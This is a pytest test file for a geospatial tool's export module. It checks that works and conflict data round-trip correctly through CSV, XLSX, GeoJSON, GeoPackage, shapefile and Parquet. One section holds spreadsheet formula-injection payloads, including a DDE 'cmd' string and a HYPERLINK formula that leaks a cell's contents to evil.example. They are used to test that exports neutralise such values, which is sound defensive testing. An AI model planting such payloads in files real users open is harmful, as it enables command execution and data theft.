"""Exports written to real files and read back with independent readers."""

from __future__ import annotations

import datetime as dt
import io
import math
import re
import zipfile

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
from click.testing import CliRunner
from openpyxl.utils.escape import unescape

from ims_geo import export
from ims_geo.cli import main
from ims_geo.conflicts import find_conflicts
from ims_geo.errors import InputError
from ims_geo.ingest import read_works
from ims_geo.schema import validate
from ims_geo.store import open_store


@pytest.fixture
def works() -> gpd.GeoDataFrame:
    frame = pd.DataFrame(
        {
            "work_id": ["00017", "B-2", "C3"],
            "org": ["Stadtwerke Süd", "Waternet", "Gemeente – Wegen"],
            "title": ["Leitung €", "Riool vervangen", "Asfalt"],
            "discipline": ["gas", "sewer", "road"],
            "start_date": ["2026-03-01", "2026-04-15", "2027-01-01"],
            "end_date": ["2026-03-31", "2026-06-30", "2027-02-28"],
            "cost_eur": [1200.5, None, 99000],
        }
    )
    geoms = [
        shapely.LineString([(0, 0), (100, 0)]),
        shapely.Point(5, 5),
        shapely.Polygon([(0, 0), (10, 0), (10, 10), (0, 10)]),
    ]
    return validate(gpd.GeoDataFrame(frame, geometry=geoms, crs=28992)).valid


def test_csv_has_header_iso_dates_and_wkt(works, tmp_path):
    path = export.write(works, tmp_path / "works.csv")
    text = path.read_text(encoding="utf-8")
    back = pd.read_csv(path, dtype=str)
    assert list(back.columns) == [c for c in works.columns if c != "geometry"] + ["geometry"]
    assert back["work_id"].tolist() == ["00017", "B-2", "C3"]
    assert back["start_date"].tolist() == ["2026-03-01", "2026-04-15", "2027-01-01"]
    assert back["org"].tolist() == ["Stadtwerke Süd", "Waternet", "Gemeente – Wegen"]
    # WKT in EPSG:4326 (what CSV readers assume), 8 decimals: back in metres within 1 mm
    lonlat = gpd.GeoSeries(shapely.from_wkt(back["geometry"]), crs=4326)
    assert lonlat.geom_equals_exact(works.geometry.to_crs(4326), tolerance=1e-8).all()
    assert lonlat.to_crs(28992).geom_equals_exact(works.geometry, tolerance=1e-3).all()
    assert text.splitlines()[0].startswith("work_id,org,")


def test_xlsx_frozen_filtered_real_dates(works, tmp_path):
    path = export.write(works, tmp_path / "works.xlsx", layer="Werke")
    book = openpyxl.load_workbook(path)
    ws = book["Werke"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}4"
    header = [c.value for c in ws[1]]
    col = header.index("start_date") + 1
    assert ws.cell(row=2, column=col).value == dt.datetime(2026, 3, 1)
    assert ws.cell(row=2, column=header.index("title") + 1).value == "Leitung €"
    assert ws.cell(row=2, column=header.index("work_id") + 1).value == "00017"


def test_xlsx_geometry_too_long_becomes_centroid(tmp_path):
    line = shapely.LineString([(i * 1.123, (i % 7) * 3.21) for i in range(3000)])
    frame = gpd.GeoDataFrame({"name": ["long"]}, geometry=[line], crs=28992)
    path = export.write(frame, tmp_path / "long.xlsx")
    ws = openpyxl.load_workbook(path).active
    header = [c.value for c in ws[1]]
    wkt = ws.cell(row=2, column=header.index("geometry") + 1).value
    assert wkt.startswith("POINT")
    centre = gpd.GeoSeries([shapely.from_wkt(wkt)], crs=4326).to_crs(28992)[0]
    assert centre.distance(line.centroid) < 0.5  # taken in degrees: not exactly the metric one
    assert ws.cell(row=2, column=header.index("geometry_note") + 1).value.startswith("centroid")


def test_geojson_is_lonlat(works, tmp_path):
    path = export.write(works, tmp_path / "works.geojson")
    back = gpd.read_file(path)
    assert back.crs.to_epsg() == 4326
    expected = works.to_crs(4326).geometry
    assert back.geometry.geom_equals_exact(expected, tolerance=1e-9).all()
    assert back["start_date"].astype(str).tolist()[0].startswith("2026-03-01")


def test_gpkg_several_layers_with_real_dates(works, tmp_path):
    table = pd.DataFrame({"kpi": ["clashes"], "baseline": [3], "proposal": [0]})
    path = export.write_layers({"works": works, "kpis": table}, tmp_path / "out.gpkg")
    layers = dict(pyogrio.list_layers(path))
    assert set(layers) == {"works", "kpis"}
    back = gpd.read_file(path, layer="works")
    assert back.crs.to_epsg() == 28992
    assert str(back["start_date"].dtype).startswith("datetime64")
    assert back["start_date"].dt.date.tolist() == [
        dt.date(2026, 3, 1),
        dt.date(2026, 4, 15),
        dt.date(2027, 1, 1),
    ]
    assert back["work_id"].tolist() == ["00017", "B-2", "C3"]
    kpis = pyogrio.read_dataframe(path, layer="kpis")
    assert kpis["proposal"].tolist() == [0]


def test_shapefile_zip_one_file_per_geometry_family(works, tmp_path):
    path = export.write(works, tmp_path / "works.zip", layer="works")
    names = sorted(zipfile.ZipFile(path).namelist())
    for family in ("lines", "points", "polygons"):
        assert f"works_{family}.shp" in names
        assert f"works_{family}.cpg" in names
    lines = gpd.read_file(f"/vsizip/{path}/works_lines.shp")
    assert lines["org"].tolist() == ["Stadtwerke Süd"]
    assert lines["work_id"].tolist() == ["00017"]


def test_to_bytes_round_trips(works):
    data = export.to_bytes(works, "csv")
    assert pd.read_csv(io.BytesIO(data), dtype=str)["work_id"].tolist() == ["00017", "B-2", "C3"]
    gpkg = export.to_bytes({"a": works, "b": works.iloc[:1]}, "gpkg")
    assert gpkg[:16] == b"SQLite format 3\x00"


def test_unknown_suffix_and_layer_count_are_clear_errors(works, tmp_path):
    with pytest.raises(InputError, match=r"unknown file type '\.txt'"):
        export.write(works, tmp_path / "x.txt")
    with pytest.raises(InputError, match="use .gpkg or .xlsx"):
        export.write_layers({"a": works, "b": works}, tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


def test_failed_write_leaves_previous_file_intact(works, tmp_path, monkeypatch):
    target = tmp_path / "works.gpkg"
    export.write(works, target)
    before = target.read_bytes()

    def boom(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(export, "_write_gpkg", boom)
    with pytest.raises(OSError, match="disk full"):
        export.write(works.iloc[:1], target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["works.gpkg"]


def test_csv_with_mixed_user_columns_and_odd_headers(works, tmp_path):
    frame = works.copy()
    frame["Kosten, brutto"] = [1, "n.v.", None]
    frame["excavation"] = [True, False, True]
    path = export.write(frame, tmp_path / "mixed.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["Kosten, brutto"].tolist() == ["1", "n.v.", ""]
    assert back["work_id"].tolist() == ["00017", "B-2", "C3"]


def test_csv_booleans_and_empty_values(works, tmp_path):
    path = export.write(works, tmp_path / "works.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["excavation"].str.lower().tolist() == ["true", "true", "false"]
    assert back["cost_eur"].tolist()[1] == ""


# --- exports that cannot attack their reader ------------------------------------------
#: Text a spreadsheet would run as a formula or follow as a link, and look-alikes.
HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "http://evil.example/",
    "-3.5",
    "plain text",
]


@pytest.fixture
def hostile() -> gpd.GeoDataFrame:
    n = len(HOSTILE)
    frame = pd.DataFrame(
        {
            "work_id": [f"W{i}" for i in range(n)],
            "org": ["=cmd|' /C calc'!A0"] * n,
            "title": HOSTILE,
            "discipline": ["water"] * n,
            "start_date": ["2026-03-01"] * n,
            "end_date": ["2026-03-31"] * n,
            "cost_eur": [-3.5] * n,
            "=SUM(9)": ["extra"] * n,
            "note": HOSTILE,
        }
    )
    geoms = [shapely.Point(100 * i, 0) for i in range(n)]
    return validate(gpd.GeoDataFrame(frame, geometry=geoms, crs=28992)).valid


def test_xlsx_writes_every_text_as_text(hostile, tmp_path):
    path = export.write(hostile, tmp_path / "works.xlsx", layer="works")
    ws = openpyxl.load_workbook(path)["works"]
    header = [c.value for c in ws[1]]
    assert "=SUM(9)" in header
    assert all(c.data_type == "s" for c in ws[1])
    note = header.index("note") + 1
    cells = [ws.cell(row=r, column=note) for r in range(2, len(HOSTILE) + 2)]
    # control characters are stored as OOXML escapes (_x000D_), which Excel decodes
    assert [unescape(c.value) for c in cells] == HOSTILE
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)  # never "f" (formula)
    assert not any(c.hyperlink for c in cells)
    org = ws.cell(row=2, column=header.index("org") + 1)
    assert (org.value, org.data_type) == ("=cmd|' /C calc'!A0", "s")
    cost = ws.cell(row=2, column=header.index("cost_eur") + 1)
    assert (cost.value, cost.data_type) == (-3.5, "n")


def test_xlsx_download_bytes_are_text_too(hostile):
    book = openpyxl.load_workbook(io.BytesIO(export.to_bytes(hostile, "xlsx", layer="w")))
    ws = book["w"]
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_csv_cells_that_would_run_are_neutralised_and_read_back_exactly(hostile, tmp_path):
    path = export.write(hostile, tmp_path / "works.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    # what a spreadsheet opens: a quote before every cell that would be a formula
    expected = [
        "'=1+2",
        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        "'+SUM(1,2)",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(A1:A2)",
        "'\t=1+1",
        "'\r=1+1",
        "''=already quoted",
        "http://evil.example/",
        "-3.5",
        "plain text",
    ]
    assert raw["note"].tolist() == expected
    assert set(raw["org"]) == {"'=cmd|' /C calc'!A0"}
    assert "'=SUM(9)" in raw.columns
    assert set(raw["cost_eur"]) == {"-3.5"}  # numbers are not mangled
    # the visible value is kept: undoing the quote gives back every original
    assert export.csv_text(raw["note"]).tolist() == HOSTILE
    # and ims-geo import reads its own export back unchanged
    back = read_works(path, crs=28992).works
    assert back["note"].tolist() == HOSTILE
    assert back["title"].tolist() == hostile["title"].tolist()
    assert set(back["org"]) == {"=cmd|' /C calc'!A0"}
    assert back["cost_eur"].tolist() == [-3.5] * len(HOSTILE)
    assert "=SUM(9)" in back.columns


def test_csv_neutralising_leaves_numbers_dates_and_empty_cells(tmp_path):
    frame = pd.DataFrame(
        {
            "n": [-3.5, 2.0, None],
            "i": [-1, 0, 7],
            "mixed": ["-4", 5, None],
            "day": [dt.date(2026, 1, 2), None, dt.date(2026, 1, 3)],
            "t": ["-", "=", ""],
        }
    )
    back = pd.read_csv(export.write(frame, tmp_path / "t.csv"), dtype=str, keep_default_na=False)
    assert back.to_dict("list") == {
        "n": ["-3.5", "2", ""],  # as Arrow writes 2.0 in every CSV
        "i": ["-1", "0", "7"],
        "mixed": ["-4", "5", ""],
        "day": ["2026-01-02", "", "2026-01-03"],
        "t": ["'-", "'=", ""],
    }


def test_csv_writes_a_datetime_as_the_same_text_beside_a_column_arrow_cannot_type(tmp_path):
    checked = ["2027-01-01 08:30:00", "2027-03-05 23:59:59.250000", None, "2027-06-01 00:00:00"]
    times = pd.to_datetime(checked, format="ISO8601")
    plain = pd.DataFrame(
        {
            "work_id": ["a", "b", "c", "d"],
            "checked": times,
            "local": times.tz_localize("Europe/Helsinki"),  # written as its wall-clock time
        }
    )
    mixed = plain.assign(note=[1, "n.v.", None, 2.5])  # numbers mixed with text
    with pytest.raises((pa.ArrowException, TypeError, ValueError)):
        pa.Table.from_pandas(mixed)
    cells = [
        "2027-01-01 08:30:00.000000",
        "2027-03-05 23:59:59.250000",
        "",
        "2027-06-01 00:00:00.000000",
    ]
    texts = []
    for name, frame in (("plain", plain), ("mixed", mixed)):
        path = export.write(frame, tmp_path / f"{name}.csv")
        text = path.read_text(encoding="utf-8")
        rows = [line.split(",") for line in text.splitlines()[1:]]
        assert [r[1] for r in rows] == cells and [r[2] for r in rows] == cells, text
        back = pd.read_csv(path, parse_dates=["checked", "local"])
        for column in ("checked", "local"):
            assert back[column].tolist() == list(times), column
        texts.append(text)
    mixed_lines = [line.rsplit(",", 1) for line in texts[1].splitlines()]
    assert [head for head, _ in mixed_lines] == texts[0].splitlines()
    assert [note for _, note in mixed_lines] == ["note", '"1"', '"n.v."', "", '"2.5"']


# --- column names that no format can confuse --------------------------------------------
#: Columns of two plans and names a format keeps for itself.
AWKWARD = {
    "street": ["Main", "Side"],
    "Street": ["Hauptstraße", "Nebenweg"],
    "description_long_a": ["first a", "second a"],
    "description_long_b": ["first b", "second b"],
    "geometry_note": ["mine", "also mine"],
    "fid": ["x1", "x2"],
    "Geom": ["g1", "g2"],
    "OGC_FID": ["o1", "o2"],
}
#: The names they get, by the rule in README (hand-derived, not from the code).
RENAMED = {
    "street": "street",
    "Street": "Street_2",
    "description_long_a": "description_long_a",
    "description_long_b": "description_long_b",
    "geometry_note": "geometry_note_2",
    "fid": "fid_2",
    "Geom": "Geom_2",
    "OGC_FID": "OGC_FID_2",
}
RENAMED_SHP = {
    **RENAMED,
    "description_long_a": "descriptio",
    "description_long_b": "descript_2",
    "geometry_note": "geometry_n",
}


@pytest.fixture
def awkward() -> gpd.GeoDataFrame:
    frame = pd.DataFrame(
        {
            "work_id": ["1", "2"],
            "org": ["Stadt", "Werke"],
            "start_date": pd.to_datetime(["2026-03-01", "2026-04-01"]),
            **AWKWARD,
        }
    )
    return gpd.GeoDataFrame(frame, geometry=[shapely.Point(0, 0), shapely.Point(5, 5)], crs=28992)


def _read_back(path) -> pd.DataFrame:
    suffix = path.suffix
    if suffix == ".csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False)
    if suffix == ".xlsx":
        rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
        return pd.DataFrame(rows[1:], columns=rows[0])
    if suffix == ".parquet":
        return gpd.read_parquet(path)
    if suffix == ".zip":
        return gpd.read_file(f"/vsizip/{path}/works.shp")
    return gpd.read_file(path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".geojson", ".gpkg", ".zip", ".parquet"])
def test_names_differing_in_case_too_long_or_reserved_survive_every_format(
    awkward, tmp_path, suffix
):
    path = export.write(awkward, tmp_path / f"works{suffix}", layer="works")
    back = _read_back(path)
    renamed = RENAMED_SHP if suffix == ".zip" else RENAMED
    for column, values in AWKWARD.items():
        assert back[renamed[column]].astype(str).tolist() == values, column
    assert back["work_id"].astype(str).tolist() == ["1", "2"]
    if suffix in (".csv", ".xlsx"):
        assert back.columns[-1] == "geometry"


def test_safe_names_rule():
    assert export.safe_names(["a", "A", "a_2", "A"]) == ["a", "A_3", "a_2", "A_4"]
    assert export.safe_names(["Geometry", "x"], reserved=["geometry"]) == ["Geometry_2", "x"]
    assert export.safe_names(["", "  "]) == ["column", "column_2"]
    # bytes, not characters: a .dbf field holds 10 bytes
    assert export.safe_names(["straßenname_a", "straßenname_b"], max_length=10) == [
        "straßenna",
        "straßen_2",
    ]
    cut = export.safe_names([f"discipline_{s}" for s in "abcdefghijk"], max_length=10)
    assert cut[:3] == ["discipline", "discipli_2", "discipli_3"]
    assert cut[-1] == "discipl_11"
    assert len({c.casefold() for c in cut}) == len(cut)


def test_layer_and_sheet_names_that_differ_in_case_are_kept_apart(works, tmp_path):
    layers = {"Works": works.iloc[:1], "works": works.iloc[1:]}
    gpkg = export.write_layers(layers, tmp_path / "two.gpkg")
    assert sorted(name for name, _ in pyogrio.list_layers(gpkg)) == ["Works", "works_2"]
    assert gpd.read_file(gpkg, layer="works_2")["work_id"].tolist() == ["B-2", "C3"]
    long = {"x" * 40 + "1": works, "x" * 40 + "2": works}
    book = openpyxl.load_workbook(export.write_layers(long, tmp_path / "two.xlsx"))
    assert book.sheetnames == ["x" * 31, "x" * 29 + "_2"]


def test_parquet_is_geoparquet_in_the_working_crs(works, tmp_path):
    back = gpd.read_parquet(export.write(works, tmp_path / "works.parquet"))
    assert back.crs.to_epsg() == 28992
    assert back.geometry.geom_equals_exact(works.geometry, tolerance=0).all()
    assert back["work_id"].tolist() == ["00017", "B-2", "C3"]
    assert [d.isoformat() for d in back["start_date"]] == ["2026-03-01", "2026-04-15", "2027-01-01"]


X0, Y0 = 121_000.0, 487_000.0  # Amsterdam, RD New


@pytest.fixture(scope="module")
def street_plans(tmp_path_factory):
    """Two organisations' plans, one with a ``street`` column, one with ``Street``.

    Road resurfacing on y=0 (x 0..100) in March 2027, a water main 3.456 m
    north of it (x 40..140: 60 m shared) in April 2027: a moratorium at
    distance 3.456 m, overlap 60 m.
    """
    road = gpd.GeoDataFrame(
        {
            "work_id": ["R1"],
            "title": ["Asfalt Damstraat"],
            "discipline": ["road"],
            "start_date": ["2027-03-01"],
            "end_date": ["2027-03-31"],
            "street": ["Damstraat"],
        },
        geometry=[shapely.LineString([(X0, Y0), (X0 + 100, Y0)])],
        crs=28992,
    )
    water = gpd.GeoDataFrame(
        {
            "work_id": ["W1"],
            "title": ["=Waterleiding"],
            "discipline": ["water"],
            "start_date": ["2027-04-10"],
            "end_date": ["2027-05-31"],
            "Street": ["Damstraat-Noord"],
        },
        geometry=[shapely.LineString([(X0 + 40, Y0 + 3.456), (X0 + 140, Y0 + 3.456)])],
        crs=28992,
    )
    folder = tmp_path_factory.mktemp("plans")
    paths = {"Gemeente": folder / "road.gpkg", "Waternet": folder / "water.gpkg"}
    road.to_file(paths["Gemeente"], driver="GPKG")
    water.to_file(paths["Waternet"], driver="GPKG")
    return paths


def _cli(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.fixture(scope="module")
def street_store(street_plans, tmp_path_factory):
    """The two plans imported into a store (read-only for the tests: built once)."""
    store = tmp_path_factory.mktemp("store") / "store.gpkg"
    for org, path in street_plans.items():
        result = _cli("import", path, "--org", org, "--store", store)
        assert result.exit_code == 0, result.output
    return store


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".geojson", ".gpkg", ".zip", ".parquet"])
def test_export_command_writes_street_and_Street(street_store, tmp_path, suffix):
    out = tmp_path / f"works{suffix}"
    result = _cli("export", "--out", out, "--store", street_store)
    assert result.exit_code == 0, result.output
    back = _read_back(out) if suffix != ".zip" else gpd.read_file(f"/vsizip/{out}/works.shp")
    back = back.assign(work_id=back["work_id"].astype(str)).set_index("work_id")
    assert back.loc["R1", "street"] == "Damstraat"
    assert back.loc["W1", "Street_2"] == "Damstraat-Noord"


def test_propose_and_conflicts_write_geopackages_with_street_and_Street(street_store, tmp_path):
    programme = tmp_path / "programme.gpkg"
    result = _cli("propose", "--out", programme, "--time-limit", "5", "--store", street_store)
    assert result.exit_code == 0, result.output
    works = gpd.read_file(programme, layer="works").set_index("work_id")
    assert works.loc["R1", "street"] == "Damstraat"
    assert works.loc["W1", "Street_2"] == "Damstraat-Noord"
    out = tmp_path / "conflicts.gpkg"
    assert _cli("conflicts", "--out", out, "--store", street_store).exit_code == 0
    assert len(gpd.read_file(out)) == 1


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".geojson", ".gpkg"])
def test_conflict_exports_carry_titles_periods_centimetres_and_the_crs(
    street_store, tmp_path, suffix
):
    out = tmp_path / f"conflicts{suffix}"
    result = _cli("conflicts", "--out", out, "--store", street_store)
    assert result.exit_code == 0, result.output
    back = _read_back(out)
    assert len(back) == 1
    row = back.iloc[0]
    assert (row["org_a"], row["org_b"]) == ("Gemeente", "Waternet")
    hostile = "'=Waterleiding" if suffix == ".csv" else "=Waterleiding"  # CSV: neutralised
    assert (row["title_a"], row["title_b"]) == ("Asfalt Damstraat", hostile)
    assert row["kind"] == "moratorium"
    periods = [str(row[c])[:10] for c in ("start_a", "end_a", "start_b", "end_b")]
    assert periods == ["2027-03-01", "2027-03-31", "2027-04-10", "2027-05-31"]
    assert float(row["distance_m"]) == 3.46
    # shared stretch: b's part within 20 m of a, x 40 .. 100 + sqrt(20² - 3.456²)
    assert float(row["overlap_m"]) == round(60 + math.sqrt(20**2 - 3.456**2), 2) == 79.7
    columns = list(back.columns)
    assert columns.index("title_a") == columns.index("org_a") + 1
    assert columns.index("title_b") == columns.index("org_b") + 1
    # where they meet, in the CRS the file states (CSV/XLSX: EPSG:4326, documented)
    if suffix in (".csv", ".xlsx"):
        meet = gpd.GeoSeries(shapely.from_wkt([row["geometry"]]), crs=4326)
    else:
        meet = back.geometry
        assert meet.crs.to_epsg() == (4326 if suffix == ".geojson" else 28992)
    found = find_conflicts(open_store(street_store).works()).geometry
    assert meet.to_crs(28992).geom_equals_exact(found.set_crs(28992), tolerance=0.01).all()


# --- every geometry the store can hold ---------------------------------------------------
GEOMETRIES = [
    "POINT (0 0)",
    "POINT Z (1 1 5)",
    "POINT ZM (2 2 5 7)",
    "POINT M (3 3 9)",
    "MULTIPOINT ((4 4), (5 5))",
    "MULTIPOINT Z ((4 4 1), (5 5 2))",
    "LINESTRING Z (0 0 1, 10 0 2)",
    "MULTILINESTRING ((0 0, 1 1), (2 2, 3 3))",
    "POLYGON Z ((0 0 1, 1 0 1, 1 1 1, 0 0 1))",
    "MULTIPOLYGON (((0 0, 1 0, 1 1, 0 0)), ((5 5, 6 5, 6 6, 5 5)))",
]
#: What every format holds: the same shapes, heights kept, measures dropped.
WITHOUT_M = [
    "POINT (0 0)",
    "POINT Z (1 1 5)",
    "POINT Z (2 2 5)",
    "POINT (3 3)",
    "MULTIPOINT ((4 4), (5 5))",
    "MULTIPOINT Z ((4 4 1), (5 5 2))",
    "LINESTRING Z (0 0 1, 10 0 2)",
    "MULTILINESTRING ((0 0, 1 1), (2 2, 3 3))",
    "POLYGON Z ((0 0 1, 1 0 1, 1 1 1, 0 0 1))",
    "MULTIPOLYGON (((0 0, 1 0, 1 1, 0 0)), ((5 5, 6 5, 6 6, 5 5)))",
]


def _shifted(wkts: list[str]) -> np.ndarray:
    """Geometries moved to (X0, Y0) in the WKT text itself: heights and measures stay."""

    def shift(match: re.Match) -> str:
        return f"{float(match[1]) + X0} {float(match[2]) + Y0}{match[3]}"

    return shapely.from_wkt(
        [re.sub(r"(-?[\d.]+) (-?[\d.]+)((?: -?[\d.]+)*)", shift, w) for w in wkts]
    )


@pytest.fixture
def every_geometry() -> gpd.GeoDataFrame:
    n = len(GEOMETRIES)
    geoms = _shifted(GEOMETRIES)
    assert shapely.has_m(geoms).sum() == 2 and shapely.has_z(geoms).sum() == 5
    return gpd.GeoDataFrame(
        {"work_id": [f"G{i}" for i in range(n)], "org": ["A"] * n}, geometry=geoms, crs=28992
    )


def _expected(crs: int) -> gpd.GeoSeries:
    return gpd.GeoSeries(_shifted(WITHOUT_M), crs=28992).to_crs(crs)


def _same(got: gpd.GeoSeries, want: gpd.GeoSeries, tolerance: float) -> None:
    assert got.has_z.tolist() == want.has_z.tolist()
    assert not shapely.has_m(got.to_numpy()).any()
    assert got.geom_type.tolist() == want.geom_type.tolist()
    assert got.reset_index(drop=True).geom_equals_exact(want, tolerance=tolerance).all()
    both = got.has_z.to_numpy()
    z_got = shapely.get_coordinates(got.to_numpy()[both], include_z=True)[:, 2]
    z_want = shapely.get_coordinates(want.to_numpy()[both], include_z=True)[:, 2]
    assert z_got.tolist() == z_want.tolist()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".geojson", ".gpkg", ".parquet"])
def test_every_geometry_type_with_heights_and_measures_is_written(every_geometry, tmp_path, suffix):
    path = export.write(every_geometry, tmp_path / f"works{suffix}", layer="works")
    back = _read_back(path)
    assert back["work_id"].tolist() == [f"G{i}" for i in range(len(GEOMETRIES))]
    if suffix in (".csv", ".xlsx"):
        got = gpd.GeoSeries(shapely.from_wkt(back["geometry"].tolist()), crs=4326)
        _same(got, _expected(4326), tolerance=1e-8)
    else:
        crs = 4326 if suffix == ".geojson" else 28992
        assert back.crs.to_epsg() == crs
        _same(back.geometry, _expected(crs), tolerance=1e-7 if crs == 4326 else 1e-6)


def test_shapefile_zip_holds_points_multipoints_lines_and_polygons_apart(every_geometry, tmp_path):
    path = export.write(every_geometry, tmp_path / "works.zip", layer="works")
    layers = dict(pyogrio.list_layers(path))
    assert sorted(layers) == ["works_lines", "works_multipoints", "works_points", "works_polygons"]
    want = _expected(28992)
    for family, rows in (
        ("points", [0, 1, 2, 3]),
        ("multipoints", [4, 5]),
        ("lines", [6, 7]),
        ("polygons", [8, 9]),
    ):
        back = gpd.read_file(f"/vsizip/{path}/works_{family}.shp")
        assert back["work_id"].tolist() == [f"G{i}" for i in rows]
        # a shapefile holds one kind of shape: 2D shapes in a 3D file get height 0,
        # lines and polygons are read back as what they are
        expected = want.iloc[rows].reset_index(drop=True)
        # (a shapefile also writes outer rings clockwise: compare normalised shapes)
        flat = gpd.GeoSeries(shapely.normalize(shapely.force_2d(back.geometry.to_numpy())))
        want_flat = gpd.GeoSeries(shapely.normalize(shapely.force_2d(expected.to_numpy())))
        assert flat.geom_equals_exact(want_flat, tolerance=1e-6).all()
        assert back.has_z.any() == expected.has_z.any()


def test_store_works_of_every_type_export_through_the_command(every_geometry, tmp_path):
    store = tmp_path / "store.gpkg"
    valid = validate(every_geometry.assign(start_date="2027-01-01", end_date="2027-02-01")).valid
    open_store(store).import_plan(valid, org="A", cycle=2027)
    for suffix in (".csv", ".xlsx", ".geojson", ".gpkg", ".zip", ".parquet"):
        out = tmp_path / f"works{suffix}"
        result = _cli("export", "--out", out, "--store", store)
        assert result.exit_code == 0, (suffix, result.output)
        assert f"{len(GEOMETRIES)} works written" in result.stderr


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson", "gpkg", "shp-zip", "parquet"])
def test_download_bytes_of_street_and_Street(awkward, tmp_path, fmt):
    # the app's download buttons: the programme's works and projects in one GeoPackage
    data = export.to_bytes({"works": awkward, "projects": awkward} if fmt == "gpkg" else awkward,
                           fmt, layer="works")  # fmt: skip
    path = tmp_path / f"works{export.SUFFIXES[fmt]}"
    path.write_bytes(data)
    back = gpd.read_file(path, layer="works") if fmt == "gpkg" else _read_back(path)
    renamed = RENAMED_SHP if fmt == "shp-zip" else RENAMED
    assert back[renamed["Street"]].tolist() == AWKWARD["Street"]
    assert back[renamed["street"]].tolist() == AWKWARD["street"]
    if fmt == "gpkg":
        assert gpd.read_file(path, layer="projects")["Street_2"].tolist() == AWKWARD["Street"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".geojson", ".gpkg", ".zip", ".parquet"])
def test_rows_without_geometry_are_written_too(tmp_path, suffix):
    # rejected rows keep whatever they had: no geometry, an empty one, a real one
    rows = gpd.GeoDataFrame(
        {"work_id": ["a", "b", "c"], "reason": ["missing geometry", "x", "empty geometry"]},
        geometry=[None, shapely.Point(X0, Y0), shapely.Point()],
        crs=28992,
    )
    path = export.write(rows, tmp_path / f"rejected{suffix}", layer="rejected")
    if suffix == ".zip":
        back = gpd.read_file(f"/vsizip/{path}/rejected.shp")
    else:
        back = _read_back(path)
    assert back["work_id"].tolist() == ["a", "b", "c"]
    assert back["reason"].tolist() == ["missing geometry", "x", "empty geometry"]


# --- the answer's table: titles by key, as a merge on (org, work_id) would give them -------
def _random_pairs(seed: int, n_works: int = 40, n_pairs: int = 300):
    """Works with repeated and missing keys and untitled works, and pairs naming them.

    Odd seeds give the titles as an object column, as the import's checks do.
    """
    rng = np.random.default_rng(seed)
    orgs = np.array(["A", "B", "C", "Dé"], dtype=object)
    works = pd.DataFrame(
        {
            "org": orgs[rng.integers(0, 3, n_works)],  # "Dé" has no works
            "work_id": [f"W{i}" for i in rng.integers(0, 12, n_works)],
            "title": [None if r < 0.2 else f"t{r:.6f}" for r in rng.random(n_works)],
        }
    )
    if seed % 2:
        works["title"] = works["title"].astype(object)
    pairs = gpd.GeoDataFrame(
        {
            "work_id_a": [f"W{i}" for i in rng.integers(0, 14, n_pairs)],
            "org_a": orgs[rng.integers(0, 4, n_pairs)],
            "work_id_b": [f"W{i}" for i in rng.integers(0, 14, n_pairs)],
            "org_b": orgs[rng.integers(0, 4, n_pairs)],
            "kind": "clash",
            "distance_m": rng.random(n_pairs) * 30,
            "overlap_m": rng.random(n_pairs) * 100,
        },
        geometry=shapely.points(rng.random((n_pairs, 2)) * 100),
        crs=28992,
    )
    return works, pairs


@pytest.mark.parametrize("seed", range(6))
def test_conflict_table_titles_are_each_keys_first_title(seed):
    works, pairs = _random_pairs(seed)
    first: dict[tuple[str, str], object] = {}
    for org, work_id, title in works[["org", "work_id", "title"]].itertuples(index=False):
        first.setdefault((org, work_id), title)
    table = export.conflict_table(pairs, works)
    assert list(table.columns) == [
        "work_id_a", "org_a", "title_a", "work_id_b", "org_b", "title_b",
        "kind", "distance_m", "overlap_m", "geometry",
    ]  # fmt: skip
    for side in ("a", "b"):
        keys = zip(pairs[f"org_{side}"], pairs[f"work_id_{side}"], strict=True)
        want = [first.get(key) for key in keys]
        got = table[f"title_{side}"].tolist()
        assert [None if pd.isna(v) else v for v in got] == [None if pd.isna(v) else v for v in want]
        assert table[f"title_{side}"].dtype == pd.StringDtype(na_value=np.nan)
    for col in ("distance_m", "overlap_m"):
        assert table[col].tolist() == [round(v, 2) for v in pairs[col]]
    assert table.crs == pairs.crs
    # the pairs' geometries are the same objects, and the pairs themselves are left as they were
    assert all(a is b for a, b in zip(table.geometry, pairs.geometry, strict=True))
    assert (pairs["distance_m"] != pairs["distance_m"].round(2)).any()


def test_conflict_table_without_any_title_found_and_with_titles_already_there():
    works, pairs = _random_pairs(0)
    elsewhere = works.assign(org="Z")  # no pair names these works
    table = export.conflict_table(pairs, elsewhere)
    assert table["title_a"].isna().all() and table["title_a"].dtype == object
    again = export.conflict_table(table, works)  # titles replaced, not doubled
    assert list(again.columns) == list(table.columns)
    assert again["title_a"].notna().any()
    assert export.conflict_table(pairs, works.drop(columns="title")).columns.tolist() == list(
        pairs.columns
    )


@pytest.mark.parametrize("seed", range(4))
def test_first_rows_is_a_left_merge_on_the_first_of_each_key(seed):
    rng = np.random.default_rng(seed)
    keys = [
        rng.integers(0, 4, 50),
        np.array([f"k{i}" for i in rng.integers(0, 5, 50)], dtype=object),
    ]
    sought = [
